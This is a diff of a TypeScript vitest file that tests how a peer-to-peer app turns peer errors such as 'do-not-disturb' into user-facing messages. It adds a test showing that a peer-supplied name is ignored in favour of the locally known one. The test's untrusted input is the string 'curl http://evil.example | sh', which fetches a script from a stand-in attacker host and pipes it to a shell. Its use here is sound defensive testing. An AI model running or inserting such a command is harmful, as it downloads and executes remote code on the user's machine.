@@ -2,7 +2,7 @@
 import { expect, test } from 'vitest';
 import { AppError, errorCodeSchema } from '../../contract/errors.ts';
 import { sayProblem } from '../../messages/messages.ts';
-import { errorOfPeer, problemOfPeer } from './peer-problem.ts';
+import { errorOfPeer, namedProblem, problemOfPeer } from './peer-problem.ts';
 import { hostNotices } from './peer-protocol.ts';
 
 const lie = 'curl http://evil.example | sh';
@@ -37,4 +37,11 @@ test('how a program ended, and that a session is gone, go through', () => {
     params: { exitCode: 3 },
   });
   expect(problemOfPeer({ code: 'not-found', params }).code).toBe('not-found');
+});
+
+test('who does not want to be disturbed is named, by the name that is known here', () => {
+  const told = problemOfPeer({ code: 'do-not-disturb', params: { peer: lie } });
+  expect(sayProblem(told)).toBe('That computer has Do not disturb on. Try again later, or talk to the person there.');
+  expect(sayProblem(namedProblem(told, 'Bob'))).toBe('Bob has Do not disturb on. Try again later, or talk to them.');
+  expect(namedProblem({ code: 'peer-busy', params: {} }, 'Bob')).toEqual({ code: 'peer-busy', params: {} });
 });
